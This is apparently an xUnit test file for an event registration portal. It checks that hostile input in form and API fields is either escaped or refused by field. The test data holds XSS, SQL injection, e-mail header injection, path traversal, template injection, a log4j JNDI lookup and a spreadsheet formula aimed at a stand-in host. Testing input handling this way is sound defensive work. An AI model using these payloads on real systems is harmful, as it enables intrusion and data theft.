using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using EventPortal.Tests.Infrastructure;

namespace EventPortal.Tests.Registrations;

/// <summary>
/// Hostile and malformed values in each field of the registration form and the JSON API. Each case
/// states what must happen: stored (and then shown escaped on the personal page), or refused with
/// a message on a named field. None may get a 5xx.
/// </summary>
public sealed class HostileInputInFields : HostileInputApp
{
    /// <summary>Stored: the registration goes through. Field: refused, naming that field.</summary>
    /// <param name="FormStatus">
    /// Where the form is refused before our validator sees it (ASP.NET's form reader refuses %00 with 400).
    /// </param>
    public sealed record Case(string Name, string Field, object? Value, string? RejectedField, string? Confirmation = null,
        HttpStatusCode? FormStatus = null)
    {
        public override string ToString() => Name;
    }

    static readonly string TenKb = new('長', 10 * 1024);

    public static TheoryData<Case> FieldCases() => new()
    {
        new("script tag in family name", "familyName", "<script>alert(1)</script>", null),
        new("img onerror in given name", "givenName", "<img src=x onerror=alert(1)>", null),
        new("attribute breakout in organisation", "organization", "\"><svg onload=alert(1)>", null),
        new("SQL drop table in family name", "familyName", "Robert'); DROP TABLE registrations;--", null),
        new("SQL tautology in organisation", "organization", "' OR '1'='1", null),
        new("header injection in family name", "familyName", "山田\r\nBcc: victim@example.com", "familyName"),
        new("header injection in e-mail", "email", "a@example.com\r\nBcc: x@example.com", "email"),
        new("e-mail without at", "email", "not-an-email", "email"),
        new("e-mail without dot in domain", "email", "a@b", "email"),
        new("e-mail without local part", "email", "@example.com", "email"),
        new("e-mail with a space", "email", "a b@example.com", "email"),
        new("e-mail in angle brackets", "email", "<a@example.com>", "email"),
        new("two e-mails", "email", "a@example.com, b@example.com", "email"),
        new("e-mail with two at signs", "email", "a@b@example.com", "email"),
        new("full-width e-mail normalises", "email", "ｚｅｎｋａｋｕ＠ｅｘａｍｐｌｅ．ｊｐ", null),
        new("carrier address with trailing dot", "email", "carrier.@docomo.ne.jp", null),
        new("carrier address with double dot", "email", "car..rier@ezweb.ne.jp", null),
        new("mismatched confirmation", "email", "mismatch@example.jp", "emailConfirmation", Confirmation: "other@example.jp"),
        new("consent refused", "consent", false, "consent"),
        new("consent missing", "consent", null, "consent"),
        new("unknown ticket", "ticketType", "vip", "ticketType"),
        new("empty ticket", "ticketType", "", "ticketType"),
        new("unknown category", "category", "hacker", "category"),
        new("empty family name", "familyName", "", "familyName"),
        new("blank family name", "familyName", " \u3000 ", "familyName"),
        new("10 kB family name", "familyName", TenKb, "familyName"),
        new("10 kB questions", "questions", TenKb, "questions"),
        new("control character in name", "familyName", "山\u0001田", "familyName"),
        new("NUL in organisation", "organization", "市役所\u0000", "organization", FormStatus: HttpStatusCode.BadRequest),
        new("bidi override in name", "familyName", "\u202Egnp.exe", "familyName"),
        new("bidi isolate in organisation", "organization", "A\u2067B", "organization"),
        new("emoji in name", "givenName", "🎉花子", null),
        new("ZWJ family emoji", "givenName", "👨‍👩‍👧", null),
        new("latin reading", "reading", "yamada", "reading"),
        new("half-width katakana reading", "reading", "ﾔﾏﾀﾞ ﾊﾅｺ", null),
        new("hiragana reading", "reading", "やまだ はなこ", null),
        new("path traversal in organisation", "organization", "../../../../etc/passwd", null),
        new("template syntax in name", "familyName", "{{7*7}}${7*7}", null),
        new("log4j lookup in organisation", "organization", "${jndi:ldap://x.example/a}", null),
        new("multi-line accessibility request", "accessibility", "字幕を希望します\n資料の事前送付\tも", null),
        new("formula in family name", "familyName", "=HYPERLINK(\"http://x.example\")", null),
        new("full-width latin name", "familyName", "ＹＡＭＡＤＡ", null),
        new("confusable Cyrillic in name", "familyName", "Раураl", null),
        new("script in questions", "questions", "</textarea><script>alert(1)</script>", null),
        // Found by the generated hostile-input test (Proof/GeneratedHostileInput.cs): Unicode
        // normalisation throws on noncharacters such as U+FFFE, which answered 500.
        new("noncharacter in family name", "familyName", "山田\uFFFE", "familyName"),
        new("noncharacter in questions", "questions", "\uFFFF\uFFFE", "questions"),
        new("noncharacter in e-mail", "email", "a\uFFFE@example.jp", "email"),
        new("noncharacter in reading", "reading", "ヤマダ\uFFFE", "reading"),
    };

    [Theory]
    [MemberData(nameof(FieldCases))]
    public async Task Api_field(Case c)
    {
        using var client = App.Client();
        var email = $"api-{Guid.NewGuid():N}@example.jp";
        var body = new JsonObject
        {
            ["familyName"] = "山田", ["givenName"] = "花子", ["email"] = email, ["organization"] = "市役所",
            ["ticketType"] = "live", ["consent"] = true,
        };
        body[c.Field] = c.Value switch { null => null, bool b => b, string s => s, _ => throw new ArgumentException(c.Name) };
        if (c.Value is null) body.Remove(c.Field);
        if (c.Confirmation is not null) body["emailConfirmation"] = c.Confirmation;

        var response = await client.PostAsync($"/api/events/{Slug}/registrations",
            new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"));

        if (c.RejectedField is null)
        {
            Assert.Equal(HttpStatusCode.Created, response.StatusCode);
            var manage = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("manageUrl").GetString()!;
            await AssertRenderedSafelyAsync(new Uri(manage).AbsolutePath, c);
        }
        else
        {
            Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
            var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
            Assert.True(problem.GetProperty("errors").TryGetProperty(c.RejectedField, out var messages),
                $"{c.Name}: no error for {c.RejectedField}");
            Assert.False(string.IsNullOrWhiteSpace(messages[0].GetString()));
            await AssertNothingStoredAsync();
        }
    }

    [Theory]
    [MemberData(nameof(FieldCases))]
    public async Task Form_field(Case c)
    {
        using var browser = App.Browser();
        var email = $"form-{Guid.NewGuid():N}@example.jp";
        var fields = Journeys.ValidForm(email);
        if (c.Value is null) fields.Remove(c.Field);
        else fields[c.Field] = c.Value is bool b ? (b ? "yes" : "no") : (string)c.Value;
        if (c.Field == "email") fields["emailConfirmation"] = c.Confirmation ?? (string)c.Value!;

        var response = await browser.FormRegisterAsync(Slug, fields);

        if (c.FormStatus is { } status)
        {
            Assert.Equal(status, response.StatusCode);
            Assert.Contains("<h1>", await response.Content.ReadAsStringAsync());
            await AssertNothingStoredAsync();
        }
        else if (c.RejectedField is null)
        {
            Assert.Equal(HttpStatusCode.SeeOther, response.StatusCode);
            await AssertRenderedSafelyAsync(response.Headers.Location!.OriginalString, c);
        }
        else
        {
            Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
            var html = await response.Content.ReadAsStringAsync();
            Assert.Contains("class=\"error-summary\"", html);
            Assert.Contains($"href=\"#f-{c.RejectedField}\"", html);
            Assert.Contains($"id=\"e-{c.RejectedField}\"", html);
            if (c.Value is string typed && HtmlSafety.Reflection(html, typed) is { } problem)
                Assert.Fail($"{c.Name}: {problem}");
            await AssertNothingStoredAsync();
        }
    }

    /// <summary>The personal page shows what was stored, and markup only ever as text.</summary>
    async Task AssertRenderedSafelyAsync(string managePath, Case c)
    {
        StoredSoFar++;
        using var client = App.Client();
        var html = await client.GetStringAsync(managePath);
        if (c.Value is string typed && HtmlSafety.Reflection(html, typed) is { } problem)
            Assert.Fail($"{c.Name}: {problem}");
        if (c.Field is "familyName" or "givenName" && c.Value is string shown
            && !shown.Contains('<') && !shown.Contains('"') && !shown.Contains('\''))
        {
            var encoder = System.Text.Encodings.Web.HtmlEncoder.Create(System.Text.Unicode.UnicodeRanges.All);
            Assert.Contains(encoder.Encode(shown.Normalize(NormalizationForm.FormC).Trim()), html);
        }
    }
}
